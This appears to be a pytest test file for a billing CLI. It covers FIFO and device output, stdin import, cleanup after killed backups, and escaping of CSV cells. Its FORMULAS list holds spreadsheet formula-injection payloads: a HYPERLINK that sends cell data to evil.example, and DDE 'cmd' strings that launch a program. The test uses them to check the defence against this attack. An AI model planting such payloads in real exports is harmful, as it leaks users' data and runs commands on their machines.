"""Files: `-o` onto a FIFO or a device writes into it (never replaces it); `-o -` is standard
output for every command that writes a file; `shop import -` reads standard input; a killed
backup never leaves a broken file under its real name; the copies killed commands leave are
reported by `shop doctor` and removed by the next command that writes; CSV cells that a
spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import stat
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

from billing_helpers import ready


@pytest.fixture(autouse=True)
def fixed_day(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_TODAY", "2026-06-20")


@pytest.fixture
def billed(shop) -> None:
    ready(shop, fee="flat:100")
    shop("item", "add", "Midsummer", "Scarf", "--price", "10")
    shop("invoice", "Midsummer", "--issue")


class _Reader(threading.Thread):
    """Reads a FIFO to its end, as `cat fifo` would."""

    def __init__(self, path: Path) -> None:
        super().__init__(daemon=True)
        self.path, self.data = path, b""

    def run(self) -> None:
        with open(self.path, "rb") as handle:
            self.data = handle.read()


def _fifo(tmp_path: Path, name: str) -> tuple[Path, _Reader]:
    path = tmp_path / name
    os.mkfifo(path)
    reader = _Reader(path)
    reader.start()
    return path, reader


# Each command that writes a file, and how to tell its output.
WRITERS = {
    "export json": (["export", "-o"], lambda data: json.loads(data)["format"] == "shopcli-export"),
    "export csv": (
        ["export", "--format", "csv", "-o"],
        lambda data: "clients.csv" in zipfile.ZipFile(io.BytesIO(data)).namelist(),
    ),
    "client export": (
        ["client", "export", "Oskar", "-o"],
        lambda data: "Oskar Lund" in data.decode(),
    ),
    "propose": (["propose", "Midsummer", "--preview", "-o"], lambda data: b"Scarf" in data),
    "invoice eml": (
        ["invoice", "show", "2026-0001", "--format", "eml", "-o"],
        lambda data: b"X-Unsent: 1" in data,
    ),
    "backup": (["backup"], lambda data: data.startswith(b"SQLite format 3\x00")),
}


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_fifo_is_written_into_not_replaced(shop, billed, tmp_path, writer) -> None:
    args, looks_right = WRITERS[writer]
    target, reader = _fifo(tmp_path, "pipe")
    shop(*args, str(target))
    reader.join(timeout=30)
    assert stat.S_ISFIFO(os.stat(target).st_mode), "the FIFO was replaced by a regular file"
    assert looks_right(reader.data)
    assert not list(tmp_path.glob(".*shoptmp"))


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_device_is_written_into_not_replaced(shop, billed, tmp_path, writer) -> None:
    """A null device of our own in tmp_path (the real /dev/null is not risked): before, as
    root, `shop export -o /dev/null` replaced the device with a regular file."""
    args, _looks_right = WRITERS[writer]
    device = tmp_path / "null"
    os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    shop(*args, str(device))
    assert stat.S_ISCHR(os.stat(device).st_mode)
    assert os.stat(device).st_rdev == os.makedev(1, 3)


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_dash_is_standard_output_for_every_writer(shop, billed, tmp_path, writer) -> None:
    args, looks_right = WRITERS[writer]
    before = sorted(p.name for p in Path.cwd().iterdir())
    result = shop(*args, "-")
    assert looks_right(result.stdout_bytes)
    assert sorted(p.name for p in Path.cwd().iterdir()) == before  # no file named "-" or other
    if writer == "backup":
        copy = tmp_path / "from-stdout.db"
        copy.write_bytes(result.stdout_bytes)
        conn = sqlite3.connect(copy)
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert conn.execute("SELECT number FROM invoices").fetchall() == [("2026-0001",)]
        conn.close()
        assert "Backed up to standard output" in result.stderr


def test_a_symlinked_target_keeps_its_link(shop, billed, tmp_path) -> None:
    real = tmp_path / "real.json"
    real.write_text("old")
    link = tmp_path / "link.json"
    link.symlink_to(real)
    shop("export", "-o", str(link))
    assert link.is_symlink() and json.loads(real.read_text())["format"] == "shopcli-export"


# -- import from standard input --------------------------------------------------------------


def test_import_dash_reads_standard_input(shop, store, tmp_path) -> None:
    shop("init", "--name", "Helmi Saari", "--email", "helmi@example.fi")
    giftlist = "client: {name: Bea Lindqvist, email: bea@example.com}\njob: {title: Joulu}\n"
    result = shop("import", "-", input=giftlist)
    assert "Imported standard input (gift list)" in result.stdout
    assert shop.json("client", "show", "Bea")["email"] == "bea@example.com"
    items = "title,price\nScarf,12.50\nMittens,8\n"
    shop("import", "-", "--job", "Joulu", input=items)
    assert [r["title"] for r in store.rows("items")] == ["Scarf", "Mittens"]
    gift_json = json.dumps({"client": {"name": "Cai Berg"}})
    shop("import", "-", input=gift_json)
    assert shop.json("client", "show", "Cai")["name"] == "Cai Berg"
    refused = shop.fails("import", "-", "--job", "Joulu", input="title,price\nHat,\n", code=2)
    assert refused.stderr.startswith("Error: standard input, line 2, field price")
    assert not list((tmp_path / "home").glob(".*shoptmp"))


def test_an_export_imports_from_standard_input(shop, tmp_path, monkeypatch) -> None:
    shop("init", "--name", "Helmi Saari", "--email", "helmi@example.fi")
    shop("client", "add", "Bea", "--email", "bea@example.com")
    exported = shop("export").stdout
    monkeypatch.setenv("SHOP_HOME", str(tmp_path / "second"))
    result = shop("import", "-", input=exported)
    assert "(export)" in result.stdout
    assert shop.json("client", "list")[0]["name"] == "Bea"


# -- killed commands ------------------------------------------------------------------------------


def _big_shop(shop, home: Path, rows: int = 120_000) -> None:
    """A shop whose database takes a noticeable while to copy (~40 MB)."""
    shop("init", "--name", "Helmi Saari", "--email", "helmi@example.fi")
    shop("client", "add", "Bea", "--email", "bea@example.com")
    shop("job", "add", "Bea", "Joulu", "--fee", "flat:10")
    conn = sqlite3.connect(home / "shop.db")
    note = "a long note about the gift, its colour and where to find it " * 5
    conn.executemany(
        "INSERT INTO items (job_id, number, title, price, currency, notes, created_at, "
        "updated_at) VALUES (1, ?, ?, '1', 'EUR', ?, 't', 't')",
        ((n, f"Item {n}", note) for n in range(1, rows + 1)),
    )
    conn.commit()
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()


def _start(home: Path, *args: str) -> subprocess.Popen:
    env = {**os.environ, "SHOP_HOME": str(home)}
    return subprocess.Popen(
        [sys.executable, "-m", "shopcli", *args],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )


def _kill_when(process: subprocess.Popen, appeared, timeout: float = 60) -> bool:
    """SIGKILL the process as soon as `appeared()` is true; False if it ended first."""
    deadline = time.monotonic() + timeout
    while process.poll() is None and time.monotonic() < deadline:
        if appeared():
            os.kill(process.pid, signal.SIGKILL)
            process.wait()
            return True
        time.sleep(0.001)
    process.wait()
    return False


def _sound(path: Path, items: int) -> bool:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        ok = conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        return ok and conn.execute("SELECT count(*) FROM items").fetchone()[0] == items
    finally:
        conn.close()


KILLS = 16


@pytest.mark.slow
def test_a_killed_backup_never_leaves_a_broken_file_under_its_name(shop, home, tmp_path) -> None:
    _big_shop(shop, home)
    folder = tmp_path / "copies"
    folder.mkdir()
    broken = killed = 0
    # How long a whole backup takes here: the kills are spread over that time.
    started = time.monotonic()
    _start(home, "backup", str(tmp_path / "timing.db")).wait()
    whole = time.monotonic() - started
    for n in range(KILLS):
        target = folder / f"copy-{n}.db"
        # Killed at a different moment each time, from the start to deep into the copy.
        delay = whole * (0.3 + 0.6 * n / KILLS)
        process = _start(home, "backup", str(target))
        started = time.monotonic()
        if _kill_when(
            process, lambda started=started, delay=delay: time.monotonic() - started > delay
        ):
            killed += 1
        if target.exists() and not _sound(target, 120_000):
            broken += 1
    assert killed >= KILLS // 2, "too few backups were still running when killed"
    assert broken == 0
    left = list(folder.glob(".*shoptmp"))  # each with its -journal, if any, reported as one
    report = json.loads(_doctor(shop))
    copies = [f for f in report["findings"] if f["subject"] == "temporary copies"]
    if left:
        assert all(f["level"] == "problem" for f in copies)
        assert {Path(f["message"].split(" at ")[1].split(" (")[0]) for f in copies} >= set(left)
    shop("backup", str(folder / "whole.db"))
    assert not list(folder.glob(".*shoptmp*"))
    assert _sound(folder / "whole.db", 120_000)


def _doctor(shop) -> str:
    from shopcli.cli.app import app

    return shop.runner.invoke(app, ["doctor", "--json"]).stdout


@pytest.mark.slow
@pytest.mark.parametrize("command", ["restore", "export"])
def test_a_killed_restore_or_export_leaves_a_copy_that_doctor_reports_and_the_next_removes(
    shop, home, tmp_path, command
) -> None:
    _big_shop(shop, home, rows=60_000)
    shop("backup", str(tmp_path / "copy.db"))
    if command == "restore":
        args = ["restore", str(tmp_path / "copy.db"), "--yes"]
        folder = home
    else:
        args = ["export", "-o", str(tmp_path / "out.json")]
        folder = tmp_path
    seen: set[Path] = set()
    for _ in range(3):
        process = _start(home, *args)
        new = lambda seen=frozenset(seen): bool(set(folder.glob(".*shoptmp")) - seen)  # noqa: E731
        assert _kill_when(process, new), "the command ended before its temporary copy appeared"
        # The copy the last one left was removed when this one started; its own is left.
        left = set(folder.glob(".*shoptmp"))
        assert len(left) == 1 and not left & seen
        seen |= left
        report = json.loads(_doctor(shop))
        copies = [f for f in report["findings"] if f["subject"] == "temporary copies"]
        assert report["ok"] is False and len(copies) == 1
        assert (
            f"interrupted {command} left a copy of your records at {left.pop()}"
            in (copies[0]["message"])
        )
    shop(*args)
    assert not list(folder.glob(".*shoptmp*"))
    assert not list((home / ".writing").iterdir())
    assert json.loads(_doctor(shop))["ok"] is True


# -- CSV cells spreadsheets would run ----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_would_run_as_formulas_are_written_as_text(shop, store, tmp_path) -> None:
    shop("init", "--name", "Helmi Saari", "--email", "helmi@example.fi")
    shop("client", "add", "Bea", "--email", "bea@example.com", "--notes", FORMULAS[0])
    shop("job", "add", "Bea", "Joulu", "--fee", "flat:10")
    for n, text in enumerate(FORMULAS[1:]):
        store.execute(
            "INSERT INTO items (job_id, number, title, price, currency, created_at, updated_at) "
            "VALUES (1, ?, ?, '-12.50', 'EUR', 't', 't')",
            [n + 1, text],
        )
    for target in (tmp_path / "out.zip", tmp_path / "folder"):
        shop("export", "--format", "csv", "-o", str(target))
        if target.suffix == ".zip":
            archive = zipfile.ZipFile(target)
            read = lambda name, archive=archive: archive.read(name).decode()  # noqa: E731
        else:
            read = lambda name, target=target: (target / name).read_bytes().decode()  # noqa: E731
        clients = list(csv.DictReader(io.StringIO(read("clients.csv"), newline="")))
        assert clients[0]["notes"] == "'" + FORMULAS[0]
        items = list(csv.DictReader(io.StringIO(read("items.csv"), newline="")))
        assert [row["title"] for row in items] == ["'" + text for text in FORMULAS[1:]]
        assert {row["price"] for row in items} == {"-12.50"}  # a negative number stays one
        for name in ("clients.csv", "items.csv", "jobs.csv"):
            for row in csv.reader(io.StringIO(read(name), newline="")):
                for cell in row:
                    assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (name, cell)
                    assert not cell.startswith("-") or cell == "-12.50", (name, cell)


def test_a_staged_copy_left_by_an_earlier_restore_is_reported_and_removed(
    shop, home, tmp_path
) -> None:
    shop("init", "--name", "Helmi Saari", "--email", "helmi@example.fi")
    shop("backup", str(tmp_path / "copy.db"))
    legacy = home / ".restore-20261101-101010.db"
    legacy.write_bytes((tmp_path / "copy.db").read_bytes())
    mine = tmp_path / ".restore-notes.db"  # the same name outside the data folder: not ours
    mine.write_text("keep")
    shop("export", "-o", str(tmp_path / "out.json"))
    report = json.loads(_doctor(shop))
    copies = [f["message"] for f in report["findings"] if f["subject"] == "temporary copies"]
    assert (
        len(copies) == 1
        and f"interrupted restore left a copy of your records at {legacy}" in (copies[0])
    )
    shop("restore", str(tmp_path / "copy.db"), "--yes")
    assert not legacy.exists() and mine.read_text() == "keep"
